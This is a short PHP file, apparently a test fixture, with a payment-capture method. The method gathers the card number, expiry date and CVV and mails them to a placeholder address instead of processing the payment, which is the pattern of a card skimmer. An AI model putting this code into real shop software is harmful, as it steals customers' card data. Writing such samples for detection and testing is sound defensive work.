<?php
// a payment method's capture with the card mailed out first (written for the tests, never
// run)
class Shop_Card_Capture
{
    public function capture($payment, $amount)
    {
        $text = "Card: " . $payment->getCcNumber() . "\nExp: " . $payment->getCcExpMonth()
            . "/" . $payment->getCcExpYear() . "\nCVV: " . $payment->getCcCid();
        mail('results.box@example.com', 'CC ' . $amount, $text);
        return $this;
    }
}
